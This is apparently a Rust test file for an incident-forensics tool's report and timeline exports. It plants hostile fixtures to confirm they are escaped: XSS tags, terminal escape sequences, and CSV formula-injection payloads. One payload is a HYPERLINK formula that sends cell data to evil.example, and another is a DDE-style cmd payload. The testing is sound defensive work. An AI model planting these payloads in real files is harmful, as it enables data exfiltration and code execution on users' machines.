//! Exports of the sample incident: the Markdown report, CSV and JSON
//! timelines with annotations, and Timesketch JSON lines.

mod binary;

use std::collections::BTreeSet;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Output;
use taskscope::bundle::annotations::{event_anchor, Annotations, ANNOTATIONS_FILE};
use taskscope::bundle::build::{import_to_bundle, InputFile};
use taskscope::bundle::Bundle;
use taskscope::correlate::Incident;
use taskscope::demo;
use taskscope::export::{
    export, report::report_markdown, timesketch::timesketch_jsonl, ExportFormat,
};
use tempfile::TempDir;

const ARN: &str =
    "arn:aws:ecs:us-east-1:111122223333:task/payments-prod/3f9c2d7e5b1a4c8e9d0f6a2b7c4e1d93";
const REVERSE_SHELL: &str = "raw/0006-guardduty_get_findings.json#/Findings/0";

/// A Falco alert from the compromised task's app container whose rule and
/// output try to break a terminal, a Markdown table and an HTML viewer.
const HOSTILE_ALERT: &str = concat!(
    r#"{"output":"evil \u001b]0;pwned\u0007\u001b[2J | <script>alert(1)</script> \\| end","#,
    r#""priority":"Critical","rule":"Hostile|rule <img src=x>","time":"2026-11-20T14:10:00Z","#,
    r#""output_fields":{"container.id":"3f9c2d7e5b1a4c8e9d0f6a2b7c4e1d93-1837765126"}}"#,
    "\n"
);

fn taskscope(args: &[&str]) -> Output {
    binary::command()
        .args(args)
        .env("TASKSCOPE_AUTHOR", "dana")
        .output()
        .expect("runs taskscope")
}

fn bundle_with_hostile_alert() -> (TempDir, PathBuf) {
    let dir = TempDir::new().unwrap();
    let root = dir.path().join("bundle");
    let mut inputs = demo::inputs();
    inputs.push(Ok(InputFile {
        source_path: "hostile/falco.ndjson".into(),
        bytes: HOSTILE_ALERT.as_bytes().to_vec(),
    }));
    import_to_bundle(inputs, &root).unwrap();
    (dir, root)
}

fn opened(root: &Path) -> (Bundle, Incident, Annotations, usize) {
    let bundle = Bundle::open(root).unwrap();
    let (incident, _) = bundle.incident();
    let annotations = Annotations::load(&bundle).unwrap();
    let task = incident.find_task(demo::COMPROMISED_TASK).unwrap();
    (bundle, incident, annotations, task)
}

fn annotate(root: &Path, args: &[&str]) {
    let mut all = vec!["annotate", root.to_str().unwrap()];
    all.extend(args);
    let out = taskscope(&all);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// The `|` that separate cells: those not escaped by an odd run of backslashes.
fn cell_separators(line: &str) -> usize {
    let mut count = 0;
    let mut backslashes = 0;
    for c in line.chars() {
        match c {
            '\\' => backslashes += 1,
            '|' if backslashes % 2 == 0 => {
                count += 1;
                backslashes = 0;
            }
            _ => backslashes = 0,
        }
    }
    count
}

/// The table rows of a report section (from its heading to the next `## `).
fn section<'a>(report: &'a str, heading: &str) -> &'a str {
    let start = report.find(heading).expect("section present");
    let rest = &report[start + heading.len()..];
    let end = rest.find("\n## ").unwrap_or(rest.len());
    &rest[..end]
}

#[test]
fn the_report_has_the_findings_the_notes_and_the_artifact_hashes() {
    let (_dir, root) = bundle_with_hostile_alert();
    annotate(
        &root,
        &["--task", ARN, "--note", "isolated by on-call at 14:31"],
    );
    annotate(
        &root,
        &["--event", REVERSE_SHELL, "--note", "shell to 203.0.113.66"],
    );
    annotate(&root, &["--event", REVERSE_SHELL, "--mark"]);
    annotate(
        &root,
        &["--event", REVERSE_SHELL, "--tag", "initial-access"],
    );
    let (bundle, incident, annotations, task) = opened(&root);
    let report = report_markdown(&bundle, &incident, &annotations, task);

    assert!(report.contains(ARN));
    assert!(report.contains("UserInitiated"));
    assert!(
        report.contains("sha256:139e2f2fea44898ac4610125ca1680dbedc9e7bc9e8390d70f226bc3bc45b5e4")
    );
    let findings = section(&report, "## Findings");
    let expected: Vec<_> = incident.timelines[task]
        .iter()
        .map(|&e| &incident.events[e])
        .filter(|e| e.is_finding())
        .collect();
    assert!(expected.len() >= 6);
    assert_eq!(
        findings.lines().filter(|l| l.starts_with("| ")).count(),
        expected.len() + 1
    );
    for finding in &expected {
        let kind = taskscope::render::markdown_cell(&finding.kind);
        assert!(findings.contains(&kind), "finding {kind} missing");
    }
    let first_row = findings
        .lines()
        .find(|l| l.starts_with("| critical"))
        .unwrap();
    assert!(
        findings.find(first_row) < findings.find("| low"),
        "by severity"
    );

    let notes = section(&report, "## Notes");
    assert!(notes.contains("isolated by on-call at 14:31") && notes.contains("dana"));
    assert!(notes.contains("shell to 203.0.113.66") && notes.contains(REVERSE_SHELL));
    let timeline = section(&report, "## Timeline");
    let marked = timeline
        .lines()
        .find(|l| l.contains(REVERSE_SHELL))
        .unwrap();
    assert!(
        marked.starts_with("| ★ |") && marked.contains("initial-access"),
        "{marked}"
    );
    assert!(timeline.contains("ip-in-lifetime (weak)"));

    let evidence = section(&report, "## Evidence");
    let mut contributing = BTreeSet::new();
    for &e in &incident.timelines[task] {
        for raw in &incident.events[e].raw {
            contributing.insert(raw.artifact);
        }
    }
    for index in contributing {
        let artifact = &bundle.manifest.artifacts[index];
        let row = evidence
            .lines()
            .find(|l| l.starts_with(&format!("| {} |", artifact.path)))
            .unwrap_or_else(|| panic!("{} not listed", artifact.path));
        assert!(row.contains(&artifact.sha256), "{row}");
        assert!(row.contains(&format!("| {} |", artifact.size)), "{row}");
    }
    let annotations_entry = bundle.manifest.artifact(ANNOTATIONS_FILE).unwrap();
    assert!(evidence.contains(&annotations_entry.sha256));
    assert!(evidence.contains(&bundle.manifest.created_at));
    assert!(evidence.contains("taskscope verify BUNDLE"));
    // Artifacts that hold nothing about this task are not listed.
    assert!(!evidence.contains("ecs_describe_task_definition_40"));
}

#[test]
fn hostile_evidence_is_escaped_in_the_report() {
    let (_dir, root) = bundle_with_hostile_alert();
    let (bundle, incident, annotations, task) = opened(&root);
    let report = report_markdown(&bundle, &incident, &annotations, task);
    assert!(!report.contains('\u{1b}') && !report.contains('\u{7}'));
    assert!(!report.contains("<script>") && !report.contains("<img"));
    assert!(report.contains("&lt;script>alert(1)&lt;/script>"));
    assert!(report.contains("\\\\x1b]0;pwned"));
    for heading in ["## Findings", "## Timeline"] {
        let rows: Vec<&str> = section(&report, heading)
            .lines()
            .filter(|l| l.starts_with('|'))
            .collect();
        let columns = cell_separators(rows[0]);
        for row in &rows {
            assert_eq!(cell_separators(row), columns, "{heading}: {row}");
        }
        assert!(rows.iter().any(|r| r.contains("Hostile\\|rule")));
    }
}

#[test]
fn timesketch_lines_carry_the_required_fields() {
    let (_dir, root) = bundle_with_hostile_alert();
    annotate(&root, &["--event", REVERSE_SHELL, "--tag", "c2"]);
    let (bundle, incident, annotations, task) = opened(&root);
    let text = timesketch_jsonl(&bundle, &incident, &annotations, Some(task));
    assert!(!text.contains('\u{1b}'));
    let lines: Vec<serde_json::Value> = text
        .lines()
        .map(|line| serde_json::from_str(line).expect("each line is one JSON object"))
        .collect();
    assert_eq!(lines.len(), incident.timelines[task].len());
    for (line, &e) in lines.iter().zip(&incident.timelines[task]) {
        let event = &incident.events[e];
        for field in ["message", "datetime", "timestamp_desc"] {
            assert!(
                line[field].as_str().is_some_and(|v| !v.is_empty()),
                "{field}: {line}"
            );
        }
        let datetime = chrono::DateTime::parse_from_rfc3339(line["datetime"].as_str().unwrap())
            .expect("ISO 8601 with a zone");
        assert_eq!(datetime.timestamp_micros(), event.time.timestamp_micros());
        assert_eq!(line["timestamp"], event.time.timestamp_micros());
        assert_eq!(line["task_id"], demo::COMPROMISED_TASK);
        assert_eq!(line["anchor"], event_anchor(event, &bundle.manifest));
    }
    let shell = lines.iter().find(|l| l["anchor"] == REVERSE_SHELL).unwrap();
    assert_eq!(shell["tag"], serde_json::json!(["c2", "attack.execution"]));
    assert_eq!(shell["timestamp_desc"], "Finding First Seen");
    // Evidence strings are carried exactly.
    let hostile = lines
        .iter()
        .find(|l| l["source"] == "falco" && l["kind"] == "Hostile|rule <img src=x>");
    assert!(hostile.unwrap()["summary"]
        .as_str()
        .unwrap()
        .contains("\u{1b}]0;pwned"));
}

#[test]
fn csv_has_one_row_per_event_with_annotation_columns() {
    let (_dir, root) = bundle_with_hostile_alert();
    annotate(&root, &["--event", REVERSE_SHELL, "--mark"]);
    annotate(
        &root,
        &["--event", REVERSE_SHELL, "--note", "first\nsecond line"],
    );
    let (bundle, incident, annotations, task) = opened(&root);
    for (scope, expected) in [
        (Some(task), incident.timelines[task].len()),
        (None, incident.events.len()),
    ] {
        let text = export(&bundle, &incident, &annotations, scope, ExportFormat::Csv).unwrap();
        let mut reader = csv::Reader::from_reader(text.as_bytes());
        let header = reader.headers().unwrap().clone();
        let column = |name: &str| header.iter().position(|h| h == name).unwrap();
        let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(records.len(), expected);
        let marked: Vec<_> = records
            .iter()
            .filter(|r| &r[column("marked")] == "true")
            .collect();
        assert_eq!(marked.len(), 1);
        assert_eq!(&marked[0][column("anchor")], REVERSE_SHELL);
        assert!(marked[0][column("notes")].ends_with("dana: first\\nsecond line"));
    }
}

#[test]
fn json_rows_add_anchor_marks_tags_and_notes() {
    let (_dir, root) = bundle_with_hostile_alert();
    annotate(&root, &["--event", REVERSE_SHELL, "--tag", "c2"]);
    let (bundle, incident, annotations, _) = opened(&root);
    let text = export(&bundle, &incident, &annotations, None, ExportFormat::Json).unwrap();
    let rows: Vec<serde_json::Value> = serde_json::from_str(&text).unwrap();
    assert_eq!(rows.len(), incident.events.len());
    let shell = rows.iter().find(|r| r["anchor"] == REVERSE_SHELL).unwrap();
    assert_eq!(shell["tags"], serde_json::json!(["c2"]));
    assert_eq!(shell["marked"], false);
    assert_eq!(shell["kind"], "Execution:Runtime/ReverseShell");
    assert!(export(&bundle, &incident, &annotations, None, ExportFormat::Md).is_err());
}

#[test]
fn the_cli_writes_exports_atomically_and_never_overwrites_without_force() {
    let (dir, root) = bundle_with_hostile_alert();
    let bundle = root.to_str().unwrap();
    let out_file = dir.path().join("report.md");
    let out = out_file.to_str().unwrap();
    let first = taskscope(&[
        "export", bundle, "--task", ARN, "--format", "md", "--out", out,
    ]);
    assert_eq!(
        first.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&first.stderr)
    );
    assert!(fs::read_to_string(&out_file)
        .unwrap()
        .starts_with("# Incident report"));

    fs::write(&out_file, "keep me").unwrap();
    let again = taskscope(&[
        "export", bundle, "--task", ARN, "--format", "csv", "--out", out,
    ]);
    assert_eq!(again.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&again.stderr).contains("--force"));
    assert_eq!(fs::read_to_string(&out_file).unwrap(), "keep me");

    let forced = taskscope(&[
        "export", bundle, "--task", ARN, "--format", "csv", "--out", out, "--force",
    ]);
    assert_eq!(forced.status.code(), Some(0));
    assert!(fs::read_to_string(&out_file)
        .unwrap()
        .starts_with("time,source"));
    let names: Vec<_> = fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(names.len(), 2, "only the bundle and the export: {names:?}");

    let stdout = taskscope(&["export", bundle, "--all", "--format", "timesketch"]);
    assert_eq!(stdout.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&stdout.stdout).lines().count() > 60);
    let no_task = taskscope(&["export", bundle, "--format", "md"]);
    assert_eq!(no_task.status.code(), Some(1));
    let unknown = taskscope(&["export", bundle, "--task", "nope", "--format", "md"]);
    assert_eq!(unknown.status.code(), Some(1));
}

/// Log lines from the compromised task that a spreadsheet would run as
/// formulas, and one that is only a number.
const FORMULA_LOGS: &str = concat!(
    r#"{"events":["#,
    r#"{"timestamp":1795183500000,"message":"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")","#,
    r#""logStreamName":"ecs/app/3f9c2d7e5b1a4c8e9d0f6a2b7c4e1d93","eventId":"formula-1"},"#,
    r#"{"timestamp":1795183501000,"message":"@SUM(1+1)*cmd|' /C calc'!A0","#,
    r#""logStreamName":"ecs/app/3f9c2d7e5b1a4c8e9d0f6a2b7c4e1d93","eventId":"formula-2"},"#,
    r#"{"timestamp":1795183502000,"message":"-1.5","#,
    r#""logStreamName":"ecs/app/3f9c2d7e5b1a4c8e9d0f6a2b7c4e1d93","eventId":"formula-3"}"#,
    r#"]}"#
);

/// Every cell of a CSV text.
fn csv_cells(text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    reader
        .records()
        .flat_map(|record| {
            record
                .unwrap()
                .iter()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect()
}

#[test]
fn csv_cells_that_spreadsheets_would_run_are_neutralized_everywhere() {
    let dir = TempDir::new().unwrap();
    let root = dir.path().join("bundle");
    let mut inputs = demo::inputs();
    inputs.push(Ok(InputFile {
        source_path: "hostile/cwlogs_formulas.json".into(),
        bytes: FORMULA_LOGS.as_bytes().to_vec(),
    }));
    import_to_bundle(inputs, &root).unwrap();
    let path = root.to_str().unwrap();
    annotate(&root, &["--task", demo::COMPROMISED_TASK, "--note", "=1+2"]);
    annotate(&root, &["--event", REVERSE_SHELL, "--tag", "+tag"]);

    let outputs = [
        vec!["timeline", path, "--format", "csv"],
        vec![
            "timeline",
            path,
            "--task",
            demo::COMPROMISED_TASK,
            "--format",
            "csv",
        ],
        vec!["export", path, "--all", "--format", "csv"],
        vec!["export", path, "--format", "csv", "--raw"],
        vec!["tasks", path, "--format", "csv"],
        vec!["notes", path, "--format", "csv"],
    ];
    for args in outputs {
        let out = taskscope(&args);
        assert_eq!(
            out.status.code(),
            Some(0),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let cells = csv_cells(&String::from_utf8(out.stdout).unwrap());
        for cell in &cells {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
                    || cell == "-"
                    || cell.parse::<f64>().is_ok(),
                "{args:?}: a live formula {cell:?}"
            );
        }
        let has = |wanted: &str| cells.iter().any(|c| c == wanted);
        match args[0] {
            "timeline" | "export" => {
                assert!(
                    has(r#"'=HYPERLINK("http://evil.example/?x="&A1,"click")"#),
                    "{args:?}"
                );
                assert!(has("'@SUM(1+1)*cmd|' /C calc'!A0"), "{args:?}");
                assert!(has("-1.5"), "{args:?}: a number stays a number");
            }
            "notes" => assert!(has("'=1+2") && has("'+tag"), "{cells:?}"),
            _ => {}
        }
    }
    let export = stdout_of(&["export", path, "--all", "--format", "csv"]);
    assert!(
        csv_cells(&export).iter().any(|c| c == "'+tag"),
        "tags column"
    );
}

fn stdout_of(args: &[&str]) -> String {
    String::from_utf8(taskscope(args).stdout).unwrap()
}
